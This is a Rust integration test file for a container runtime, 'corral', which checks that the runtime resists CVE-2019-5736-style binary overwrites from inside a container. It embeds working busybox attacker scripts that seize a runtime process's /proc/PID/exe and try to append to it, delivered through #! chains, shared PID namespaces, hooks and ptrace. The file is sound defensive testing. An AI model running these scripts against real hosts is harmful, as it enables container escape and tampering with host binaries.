//! CVE-2019-5736 and its relatives, attacked as an image's author would:
//! a process of the container gets hold of the executable of a corral
//! process it can see (through `/proc/PID/exe`), waits until no corral
//! process runs, then reopens that file for writing.
//!
//! The attacker is a busybox script in container A (`watch.sh` below): it
//! scans `/proc` for a process whose executable is not busybox, stops it,
//! opens its exe into a holder process (`sleep 1000 3<exe`), lets it go,
//! and, once the test says every corral process is gone, appends to
//! `/proc/HOLDER/fd/3`. Each test makes a corral process visible to A in
//! one of the ways an outside review used, and then asserts that A held
//! the file (so the attack really ran) and that the write was refused and
//! the binary is unchanged.
//!
//! The corral under attack is a copy of the build made for each test, so a
//! successful attack cannot damage the binary other tests use. The image
//! gets the host's libraries (read-only), so a dynamically linked build
//! runs inside it as the static release build would: without them a debug
//! build would only look safe, its loader missing from the busybox image.
//!
//! A process a test makes block does so on a full stderr pipe, so the
//! attacker's timing does not decide the test; the startContainer hook,
//! whose output corral reads, is caught by the attacker's scan and
//! `SIGSTOP` instead, over repeated starts within a time bound.

use std::io::Read;
use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use integration::{corral_bin, Env};
use serde_json::json;

/// The attacker, A's process.
const WATCH: &str = r#"
end=$(( $(date +%s) + 60 ))
until [ -e /shared/held ]; do
  [ $(date +%s) -gt $end ] && { echo timeout > /shared/result; exit 0; }
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    l=$(readlink $d/exe 2>/dev/null) || continue
    case "$l" in ""|*/busybox) continue;; esac
    kill -STOP $p 2>/dev/null
    ( exec 3<"$d/exe" && exec sleep 1000 ) 2>/dev/null &
    h=$!
    for i in 1 2 3 4 5 6 7 8 9 10; do [ -e /proc/$h/fd/3 ] && break; sleep 0.01; done
    kill -CONT $p 2>/dev/null
    if [ -e /proc/$h/fd/3 ]; then echo "$h $l" > /shared/held.new; mv /shared/held.new /shared/held; break; fi
  done
done
until [ -e /shared/go ]; do sleep 0.05; done
"#;

/// The attacker's second half: the write, retried while the file is busy.
const WRITE: &str = r#"
h=$(cut -d' ' -f1 /shared/held)
end=$(( $(date +%s) + 5 ))
res=none
while [ $(date +%s) -le $end ]; do
  if err=$( { printf PWNED >> /proc/$h/fd/3; } 2>&1 ); then res=written; break; fi
  res="refused: $err"
  case "$err" in *busy*) sleep 0.05;; *) break;; esac
done
echo "$res" > /shared/result.new; mv /shared/result.new /shared/result
kill $h
sleep 1000
"#;

/// One attack: the attacker's container A, a rootfs with the `#!` chain,
/// a directory shared with the test, and the copy of corral under attack.
struct Attack {
    env: Env,
    shared: PathBuf,
    rootfs: PathBuf,
    bin: PathBuf,
    original: Vec<u8>,
    a: String,
    a_pid: i32,
}

impl Attack {
    /// Starts A (with `caps` added to its capability sets).
    fn new(caps: &[&str]) -> Attack {
        let mut env = Env::new(&["sh", "/shared/watch.sh"]);
        let rootfs = env.private_rootfs();
        // The chain of the review: a -> b -> /proc/self/exe (the kernel
        // follows four levels; a one-level check sees only /bin/b).
        write_exec(&rootfs.join("bin/a"), "#!/bin/b\n");
        write_exec(&rootfs.join("bin/b"), "#!/proc/self/exe\n");
        let shared = env.scratch.join("shared");
        std::fs::create_dir_all(&shared).expect("mkdir shared");
        let script = format!("{WATCH}{WRITE}");
        std::fs::write(shared.join("watch.sh"), script).expect("write watch.sh");
        let bin = env.scratch.join("corral-under-attack");
        std::fs::copy(corral_bin(), &bin).expect("copy corral");
        let original = std::fs::read(&bin).expect("read corral");
        let caps: Vec<String> = caps.iter().map(|c| c.to_string()).collect();
        env.edit(|c| {
            let mut mounts = c["mounts"].as_array().cloned().unwrap_or_default();
            mounts.extend(lib_mounts());
            mounts.push(json!({"destination": "/shared", "type": "bind",
                "source": shared, "options": ["rbind", "rw"]}));
            c["mounts"] = json!(mounts);
            for set in ["bounding", "effective", "permitted"] {
                let list = c["process"]["capabilities"][set]
                    .as_array_mut()
                    .expect("capability set");
                list.extend(caps.iter().map(|c| json!(c)));
            }
        });
        let a = env.id();
        let mut at = Attack {
            env,
            shared,
            rootfs,
            bin,
            original,
            a: a.clone(),
            a_pid: 0,
        };
        let b = at.env.bundle.clone();
        at.ok(&["run", "-d", "--bundle", b.to_str().expect("utf8"), &a]);
        at.a_pid = at.env.state(&a)["pid"].as_i64().expect("pid") as i32;
        at
    }

    /// The copy of corral under attack, with this env's state root.
    fn corral(&self, args: &[&str]) -> Command {
        let mut c = Command::new(&self.bin);
        c.arg("--root")
            .arg(&self.env.root)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null());
        c
    }

    /// Runs the copy and expects success. Its stderr goes to a file: a
    /// container it starts inherits it, and would hold a pipe open.
    fn ok(&self, args: &[&str]) {
        let log = self.env.scratch.join("corral.err");
        let f = std::fs::File::create(&log).expect("stderr file");
        let st = self.corral(args).stderr(f).status().expect("run corral");
        let err = std::fs::read_to_string(&log).unwrap_or_default();
        assert!(st.success(), "corral {args:?}: {err}");
    }

    /// A second bundle, B, on the same rootfs, joining A's PID namespace:
    /// `edit` shapes its config. Returns its bundle directory.
    fn bundle_b(&mut self, edit: impl FnOnce(&mut serde_json::Value)) -> PathBuf {
        let dir = self.env.scratch.join("bundle-b");
        std::fs::create_dir_all(&dir).expect("mkdir bundle-b");
        let mut c = self.env.config.clone();
        let pidns = format!("/proc/{}/ns/pid", self.a_pid);
        let nss = c["linux"]["namespaces"].as_array_mut().expect("namespaces");
        for n in nss.iter_mut() {
            if n["type"] == "pid" {
                n["path"] = json!(pidns);
            }
        }
        edit(&mut c);
        std::fs::write(dir.join("config.json"), c.to_string()).expect("write config");
        dir
    }

    /// Waits (bounded) for the attacker to hold an executable; returns what
    /// it holds (the link's text).
    fn held(&self, within: Duration) -> Option<String> {
        wait_file(&self.shared.join("held"), within)
    }

    /// Tells the attacker to write, once no corral process of this test
    /// runs; returns what it reports.
    fn strike(&self) -> String {
        let deadline = Instant::now() + Duration::from_secs(10);
        while running(&self.bin) && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
        }
        std::fs::write(self.shared.join("go"), "").expect("go");
        wait_file(&self.shared.join("result"), Duration::from_secs(15))
            .unwrap_or_else(|| "the attacker gave no result".into())
    }

    /// The verdict: the attack ran and the binary survived it.
    fn assert_resisted(&self, what: &str, held: Option<String>) {
        let held = held.unwrap_or_else(|| {
            panic!("{what}: the attacker never got hold of a corral process's executable")
        });
        let result = self.strike();
        let now = std::fs::read(&self.bin).expect("read corral");
        assert!(
            now == self.original,
            "{what}: the host's corral binary was rewritten from container {} (it held {held:?}; it says {result:?})",
            self.a
        );
        assert!(
            result.starts_with("refused"),
            "{what}: the attacker held {held:?} and says {result:?}"
        );
    }
}

fn write_exec(p: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(p, text).expect("write script");
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

/// Read-only binds of the host's libraries, so a dynamically linked corral
/// runs in the image.
fn lib_mounts() -> Vec<serde_json::Value> {
    [
        "/lib64",
        "/lib/x86_64-linux-gnu",
        "/usr/lib/x86_64-linux-gnu",
    ]
    .iter()
    .filter(|p| Path::new(p).exists())
    .map(|p| json!({"destination": p, "type": "bind", "source": p, "options": ["rbind", "ro"]}))
    .collect()
}

fn wait_file(p: &Path, within: Duration) -> Option<String> {
    let deadline = Instant::now() + within;
    while Instant::now() < deadline {
        if let Ok(t) = std::fs::read_to_string(p) {
            return Some(t.trim().to_string());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

/// Whether a process runs `bin` (by its path as the kernel names it).
fn running(bin: &Path) -> bool {
    let Ok(rd) = std::fs::read_dir("/proc") else {
        return false;
    };
    rd.flatten().any(|e| {
        std::fs::read_link(e.path().join("exe"))
            .map(|l| l == bin)
            .unwrap_or(false)
    })
}

/// A pipe whose buffer is full: a process writing to it blocks until the
/// test drains it. Returns (read end, write end).
fn full_pipe() -> (OwnedFd, OwnedFd) {
    let (r, w) = nix::unistd::pipe().expect("pipe");
    let flags = nix::fcntl::fcntl(&w, nix::fcntl::FcntlArg::F_GETFL).expect("getfl");
    let nonblock = nix::fcntl::OFlag::from_bits_truncate(flags) | nix::fcntl::OFlag::O_NONBLOCK;
    nix::fcntl::fcntl(&w, nix::fcntl::FcntlArg::F_SETFL(nonblock)).expect("setfl");
    let chunk = [b'.'; 4096];
    while nix::unistd::write(&w, &chunk).is_ok() {}
    nix::fcntl::fcntl(
        &w,
        nix::fcntl::FcntlArg::F_SETFL(nonblock - nix::fcntl::OFlag::O_NONBLOCK),
    )
    .expect("setfl");
    (r, w)
}

/// Drains `r` to EOF in a thread (bounded by the writers' exit).
fn drain(r: OwnedFd) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let mut f = std::fs::File::from(r);
        let mut sink = Vec::new();
        let _ = f.read_to_end(&mut sink);
    })
}

fn reap(mut c: Child, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        match c.try_wait() {
            Ok(Some(_)) => return,
            Ok(None) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
            _ => {
                let _ = c.kill();
                let _ = c.wait();
                panic!("{what} did not end");
            }
        }
    }
}

/// `corral exec` of a `#!` chain two levels deep ending in /proc/self/exe:
/// the exec'd process runs corral inside the container.
#[test]
fn exec_of_a_deep_interpreter_chain() {
    let at = Attack::new(&[]);
    let (r, w) = full_pipe();
    let child = at
        .corral(&["exec", &at.a, "/bin/a"])
        .stderr(Stdio::from(w))
        .spawn()
        .expect("exec");
    let held = at.held(Duration::from_secs(15));
    let d = drain(r);
    reap(child, "corral exec");
    let _ = d.join();
    at.assert_resisted("exec /bin/a", held);
}

/// The same chain as the entrypoint of container B, which shares A's PID
/// namespace.
#[test]
fn entrypoint_chain_in_a_shared_pid_namespace() {
    let mut at = Attack::new(&[]);
    let bundle = at.bundle_b(|c| c["process"]["args"] = json!(["/bin/a"]));
    let b = at.env.id();
    let (r, w) = full_pipe();
    let st = at
        .corral(&["create", "--bundle", bundle.to_str().expect("utf8"), &b])
        .stderr(Stdio::from(w))
        .status()
        .expect("create");
    assert!(st.success());
    at.ok(&["start", &b]);
    let held = at.held(Duration::from_secs(15));
    let d = drain(r);
    let _ = d.join();
    at.assert_resisted("entrypoint /bin/a in a shared PID namespace", held);
}

/// The entrypoint is a harmless script at create and replaced by the
/// image (here: the test, as a co-tenant sharing the volume would) before
/// start: a check at create cannot see what start executes.
#[test]
fn entrypoint_replaced_between_create_and_start() {
    let mut at = Attack::new(&[]);
    write_exec(&at.rootfs.join("bin/entry"), "#!/bin/sh\ntrue\n");
    let bundle = at.bundle_b(|c| c["process"]["args"] = json!(["/bin/entry"]));
    let b = at.env.id();
    let (r, w) = full_pipe();
    let st = at
        .corral(&["create", "--bundle", bundle.to_str().expect("utf8"), &b])
        .stderr(Stdio::from(w))
        .status()
        .expect("create");
    assert!(st.success());
    let entry = at.rootfs.join("bin/entry");
    let tmp = at.rootfs.join("bin/.entry");
    write_exec(&tmp, "#!/proc/self/exe\n");
    std::fs::rename(&tmp, &entry).expect("replace the entrypoint");
    at.ok(&["start", &b]);
    let held = at.held(Duration::from_secs(15));
    let d = drain(r);
    let _ = d.join();
    at.assert_resisted("entrypoint replaced before start", held);
}

/// A startContainer hook whose path is a file of the image (the chain):
/// it runs in the container, beside the process, where A sees it.
#[test]
fn start_container_hook_from_the_image() {
    let mut at = Attack::new(&[]);
    let bundle = at.bundle_b(|c| {
        c["process"]["args"] = json!(["true"]);
        c["hooks"] = json!({"startContainer": [{"path": "/bin/a"}]});
    });
    // Short-lived: A must catch it in its scan. Repeated, bounded.
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut held = None;
    let mut tries = 0;
    while held.is_none() && Instant::now() < deadline {
        tries += 1;
        let b = at.env.id();
        at.ok(&["create", "--bundle", bundle.to_str().expect("utf8"), &b]);
        let _ = at.corral(&["start", &b]).stderr(Stdio::null()).status();
        held = at.held(Duration::from_millis(300));
        let _ = at
            .corral(&["delete", "-f", &b])
            .stderr(Stdio::null())
            .status();
    }
    eprintln!("startContainer hook: caught after {tries} starts");
    at.assert_resisted("startContainer hook /bin/a", held);
}

/// A co-tenant holding CAP_SYS_PTRACE opens the exe of B's init while it
/// waits for `start`: non-dumpable does not stop it.
#[test]
fn ptrace_capable_co_tenant_and_a_waiting_init() {
    let mut at = Attack::new(&["CAP_SYS_PTRACE"]);
    let bundle = at.bundle_b(|c| c["process"]["args"] = json!(["true"]));
    let b = at.env.id();
    at.ok(&["create", "--bundle", bundle.to_str().expect("utf8"), &b]);
    let held = at.held(Duration::from_secs(15));
    at.ok(&["delete", "-f", &b]);
    at.assert_resisted("the init waiting for start, with CAP_SYS_PTRACE", held);
}

/// The fallback where no read-only bind can be made (no CAP_SYS_ADMIN over
/// the mount namespace, no mount_setattr): a sealed memfd copy, attacked
/// like the exec above.
#[test]
fn exec_of_a_deep_interpreter_chain_with_the_memfd_seal() {
    let at = Attack::new(&[]);
    let (r, w) = full_pipe();
    let child = at
        .corral(&["exec", &at.a, "/bin/a"])
        .env(libcontainer::process::seal::FORCE_MEMFD_ENV, "1")
        .stderr(Stdio::from(w))
        .spawn()
        .expect("exec");
    let held = at.held(Duration::from_secs(15));
    let d = drain(r);
    reap(child, "corral exec");
    let _ = d.join();
    assert!(
        held.as_deref().is_some_and(|h| h.contains("memfd:")),
        "the exec'd corral did not run from a memfd: {held:?}"
    );
    at.assert_resisted("exec /bin/a (memfd)", held);
}

/// On x86_64 the sealed re-exec happens at the binary's ELF entry point,
/// before the C library and Rust's runtime start (runtime-bin/entry): in
/// `corral create`'s trace the `execveat` into the read-only bind comes
/// before the first call of Rust's start-up (`poll` of the stdio fds,
/// `sigaltstack`) — and, for the static release build, right after the
/// `execve` — and the re-executed process adopts the mount's fd.
#[cfg(target_arch = "x86_64")]
#[test]
fn the_entry_point_seals_before_the_c_library() {
    assert!(integration::have("strace"), "strace is not installed");
    let env = Env::new(&["true"]);
    let trace = env.scratch.join("trace");
    let o = Command::new("strace")
        .arg("-o")
        .arg(&trace)
        .arg(corral_bin())
        .arg("--root")
        .arg(env.scratch.join("root"))
        .args(["create", "--bundle", "/nonexistent", "entry-test"])
        .output()
        .expect("strace");
    assert_eq!(o.status.code(), Some(1), "{}", integration::out(&o.stderr));
    let text = std::fs::read_to_string(&trace).expect("trace");
    let calls: Vec<&str> = text
        .lines()
        .map(|l| l.split('(').next().unwrap_or(""))
        .collect();
    let first = |name: &str| calls.iter().position(|c| *c == name);
    let execveat = first("execveat").unwrap_or_else(|| panic!("no re-exec: {text}"));
    let runtime = ["poll", "sigaltstack"]
        .iter()
        .filter_map(|c| first(c))
        .min()
        .unwrap_or_else(|| panic!("no Rust start-up seen: {text}"));
    assert!(
        execveat < runtime,
        "the re-exec came after Rust's start-up: {text}"
    );
    assert_eq!(
        calls.get(execveat - 1..execveat).map(|c| c[0]),
        Some("mmap"),
        "not the entry point's re-exec: {text}"
    );
    let after = &text[text.find("execveat(").unwrap_or(0)..];
    assert!(
        after.contains(", F_SETFD, FD_CLOEXEC)"),
        "the mount's fd was not adopted: {text}"
    );
}
